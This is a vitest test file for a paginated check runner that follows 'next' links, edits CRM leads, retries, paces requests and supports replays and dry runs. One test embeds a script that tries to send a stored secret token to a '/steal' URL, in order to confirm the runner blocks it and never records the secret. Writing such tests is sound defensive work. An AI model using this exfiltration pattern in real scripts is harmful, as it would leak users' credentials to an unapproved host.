import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type DryRunInput, dryRun } from '../../src/checks/dry-run.ts';
import { replay } from '../../src/checks/replay.ts';
import { startSweeps } from '../../src/checks/sweeps/start.ts';
import { getRun } from '../../src/checks/views/queries.ts';
import { engines } from '../databases.ts';
import { makeUsual, openWorld, statusOf, type World } from '../world.ts';

/** Follows `next` from answer to answer. */
const pages = `
  $core.each($data.orders, (d) => $core.lead.edit($e2i[d.id], d.accept ? { accept: 1 } : { status: 3 }));
  console.log('answer ' + $page + ' after ' + JSON.stringify($carry));
  if ($data.next) $core.next({ url: $data.next, carry: { seen: $page } });`;

describe.each(engines)('a run of several requests on %s', (engine) => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld(engine);
  });
  beforeEach(() => world.reset());
  afterAll(() => world.close());

  const check = (id: number) =>
    world.app.db.selectFrom('checks').where('id', '=', id).selectAll().executeTakeFirstOrThrow();
  const runOf = async (checkId: number) => {
    const [sweep] = await world.sweep(checkId);
    return getRun(world.app, sweep?.runs[0]?.id ?? 0);
  };
  const threePages = () =>
    world.crm.answer('/orders', ({ query }) => {
      const page = Number(query.get('page') ?? 1);
      const next = page < 3 ? { next: `${world.crm.url}/orders?page=${page + 1}&ids={idel}` } : {};
      return { body: { orders: [{ id: `o${page}`, accept: page === 2 }], ...next } };
    });

  it('applies what all answers said at once, and shows each request with its own times', async () => {
    const { checkId, leadIds } = await makeUsual(world, 4, { code: pages, maxRequests: 3 });
    threePages();
    const run = await runOf(checkId);
    expect(run).toMatchObject({ state: 'ok', missingIds: [leadIds[3]], counts: { leads: 4, applied: 3, missing: 1 } });
    expect(run.logs).toEqual([
      { level: 'log', text: 'answer 1 after null' },
      { level: 'log', text: 'answer 2 after {"seen":1}' },
      { level: 'log', text: 'answer 3 after {"seen":2}' },
    ]);
    expect(run.requests).toMatchObject([
      { purpose: 'ask', page: 1, response: { status: 200, body: expect.stringContaining('o1') }, error: null },
      {
        purpose: 'ask',
        page: 2,
        request: { url: `${world.crm.url}/orders?page=2&ids=o1,o2,o3,o4` },
        response: { body: expect.stringContaining('o2') },
        attempts: [{ status: 200 }],
        timing: { waitMs: expect.any(Number), requestMs: expect.any(Number), scriptMs: expect.any(Number) },
      },
      { purpose: 'ask', page: 3, response: { body: expect.stringContaining('o3') } },
    ]);
    expect(run.request).toMatchObject({ url: `${world.crm.url}/orders?ids=o1,o2,o3,o4` });
    expect(await Promise.all(leadIds.map((id) => statusOf(world, id)))).toEqual([3, 6, 3, 2]);
    const booked = await world.app.db.selectFrom('ledger').where('kind', '=', 'pay').selectAll().execute();
    expect(booked).toHaveLength(1);
  });

  it('replays all its answers, and says where another script wants more than there are', async () => {
    const { checkId, leadIds } = await makeUsual(world, 3, { code: pages, maxRequests: 3 });
    threePages();
    const { id } = await runOf(checkId);
    const asked = world.crm.requests.length;
    const again = await replay(world.app, id, { against: 'recorded' });
    expect(again.edits).toMatchObject([
      { leadId: leadIds[0], outcome: 'applied', after: { status: 3 } },
      { leadId: leadIds[1], outcome: 'applied', after: { status: 6 } },
      { leadId: leadIds[2], outcome: 'applied', after: { status: 3 } },
    ]);
    expect(again.requests).toHaveLength(3);
    const process = { language: 'js' as const, code: '$core.next({ carry: ($carry ?? 0) + 1 });' };
    await world.app.db.updateTable('checks').set({ max_requests: 100 }).where('id', '=', checkId).execute();
    const greedy = await replay(world.app, id, { against: 'recorded', process });
    expect(greedy.warnings).toMatchObject([{ code: 'answer_missing', params: { page: 4 } }]);
    expect(world.crm.requests).toHaveLength(asked);
  });

  it('fails where the script asks more often than the check allows, and asks no halves', async () => {
    const { checkId, leadIds } = await makeUsual(world, 3, { code: pages, maxRequests: 2 });
    threePages();
    const run = await runOf(checkId);
    expect(run.error).toMatchObject({ step: 'process', code: 'too_many_requests', params: { limit: 2 } });
    expect(await Promise.all(leadIds.map((id) => statusOf(world, id)))).toEqual([2, 2, 2]);
    expect(world.crm.requests).toHaveLength(2);
  });

  it('applies nothing of the first answer where the second fails', async () => {
    const { checkId, leadIds } = await makeUsual(world, 1, { code: pages, maxRequests: 3 });
    world.crm.answer('/orders', ({ query }) =>
      query.has('page')
        ? { status: 500, body: 'broken' }
        : { body: { orders: [{ id: 'o1', accept: true }], next: `${world.crm.url}/orders?page=2` } },
    );
    const run = await runOf(checkId);
    expect(run).toMatchObject({ state: 'failed', error: { code: 'http_status', params: { status: 500 } } });
    expect(run.requests).toMatchObject([{ error: null }, { page: 2, error: { code: 'http_status' } }]);
    expect(await statusOf(world, leadIds[0] ?? 0)).toBe(2);
  });

  it('does not go to a host that the check does not name', async () => {
    const code = `$core.next({ url: 'http://localhost:1/steal?t={param:token}' })`;
    const { checkId } = await makeUsual(world, 1, { code, maxRequests: 3 }, { secrets: { token: 'hunter2-hunter2' } });
    world.crm.answer('/orders', { body: [] });
    const run = await runOf(checkId);
    expect(run.error).toMatchObject({ step: 'request', code: 'host_not_allowed' });
    expect(JSON.stringify(run)).not.toContain('hunter2');
  });

  it('of a form keeps its fields, and sends those that the script changes', async () => {
    const code = `if ($page < 2) $core.next({ fields: { page: 2, drop: null }, headers: { 'X-Page': 2 } })`;
    const fields = [
      { name: 'ids', value: '{idel}' },
      { name: 'drop', value: 'me' },
    ];
    const { checkId } = await makeUsual(world, 2, { code, fields, url: `${world.crm.url}/form`, maxRequests: 2 });
    world.crm.answer('/form', { body: [] });
    expect(await runOf(checkId)).toMatchObject({ state: 'ok' });
    expect(world.crm.requests).toMatchObject([
      { method: 'POST', body: 'ids=o1%2Co2&drop=me' },
      { method: 'POST', body: 'ids=o1%2Co2&page=2', headers: { 'x-page': '2' } },
    ]);
  });

  it('waits as long as the script wants before it asks again', async () => {
    const code = `if (!$data.ready) $core.next({ wait: 0.3 }); else $core.lead.edit($e2i.o1, { accept: 1 })`;
    const { checkId, leadIds } = await makeUsual(world, 1, { code, maxRequests: 5 });
    let asked = 0;
    world.crm.answer('/orders', () => ({ body: { ready: ++asked === 3 } }));
    const run = await runOf(checkId);
    expect(run.requests).toHaveLength(3);
    for (const row of run.requests.slice(1)) {
      expect((row['timing'] as { waitMs: number }).waitMs).toBeGreaterThanOrEqual(290);
    }
    expect(await statusOf(world, leadIds[0] ?? 0)).toBe(6);
  });

  it('takes a turn for every request, retries and dry runs included', async () => {
    const code = `if ($page < 2) $core.next({ fields: { page: 2 } })`;
    const paced = { requestsPerMinute: 6_000 };
    const { checkId, offerId, integrationId } = await makeUsual(world, 1, { code, maxRequests: 2 }, paced);
    const turns = async (): Promise<number> => {
      const row = await world.app.db
        .selectFrom('integrations')
        .where('id', '=', integrationId)
        .select('next_request_at')
        .executeTakeFirstOrThrow();
      return ((row.next_request_at?.getTime() ?? 0) - world.clock.now().getTime()) / 10;
    };
    let asked = 0;
    world.crm.answer('/orders', () => (++asked === 1 ? { status: 503 } : { body: [] }));
    await runOf(checkId);
    expect(asked).toBe(3);
    expect(await turns()).toBe(3);
    world.clock.advance(60);
    await dryRun(world.app, await check(checkId), { offerId });
    expect(await turns()).toBe(2);
  });

  it('in a dry run takes the pasted answers in turn, and shows what it would ask next', async () => {
    const { checkId, offerId, leadIds } = await makeUsual(world, 2, { code: pages, maxRequests: 3 });
    const pasted = (value: unknown): NonNullable<DryRunInput['response']> => ({
      status: 200,
      headers: {},
      body: new TextEncoder().encode(JSON.stringify(value)),
    });
    const next = `${world.crm.url}/orders?page=n`;
    const first = pasted({ orders: [{ id: 'o1' }], next });
    const both = [first, pasted({ orders: [{ id: 'o2', accept: true }] })];
    const shown = await dryRun(world.app, await check(checkId), { offerId, responses: both });
    expect(shown).toMatchObject({
      error: null,
      missingIds: [],
      edits: [{ leadId: leadIds[0] }, { leadId: leadIds[1], after: { status: 6 } }],
      requests: [{ data: { next } }, { data: { orders: [{ id: 'o2' }] } }],
    });
    const half = await dryRun(world.app, await check(checkId), { offerId, response: first });
    expect(half.edits).toHaveLength(1);
    expect(half.requests).toMatchObject([{ page: 1 }, { page: 2, request: { url: next }, response: null }]);
    expect(half.warnings).toMatchObject([{ code: 'answer_missing' }]);
    expect(world.crm.requests).toEqual([]);
    const doubled = dryRun(world.app, await check(checkId), { offerId, response: first, responses: both });
    await expect(doubled).rejects.toThrow('responses: cannot be given beside response');
  });

  it('keeps only the latest answers of a run that changed nothing, however many there were', async () => {
    const code = `$core.each($data, (d) => $core.lead.edit($e2i[d.id], {})); if ($page < $data[0].of) $core.next({})`;
    const { checkId } = await makeUsual(world, 1, { code, maxRequests: 5 });
    let of = 3;
    world.crm.answer('/orders', () => ({ body: [{ id: 'o1', of }] }));
    expect((await runOf(checkId)).requests).toHaveLength(3);
    of = 2;
    const second = await runOf(checkId);
    expect(second.requests.map(({ response }) => (response as { body: string }).body)).toEqual([
      '[{"id":"o1","of":2}]',
      '[{"id":"o1","of":2}]',
    ]);
    const kept = await world.app.db.selectFrom('exchanges').where('check_id', '=', checkId).selectAll().execute();
    expect(kept).toMatchObject([{ run_id: second.id, pages: [{ status: 200 }, { status: 200 }] }]);
  });

  it('that is cut off while it waits is handed back, to be asked again from its first request', async () => {
    const { checkId, leadIds } = await makeUsual(world, 1, { code: '$core.next({ wait: 60 });', maxRequests: 2 });
    world.crm.answer('/orders', { body: [] });
    await startSweeps(world.app, checkId, undefined);
    await world.crm.received(1);
    const began = performance.now();
    await world.worker.stop(300);
    expect(performance.now() - began).toBeLessThan(30_000);
    const runs = await world.app.db.selectFrom('runs').where('check_id', '=', checkId).select('state').execute();
    expect(runs).toEqual([{ state: 'crashed' }]);
    const left = await world.app.db.selectFrom('sweep_batches').select('lead_ids').execute();
    expect(left).toEqual([{ lead_ids: leadIds }]);
    expect(world.crm.requests).toHaveLength(1);
  });
});
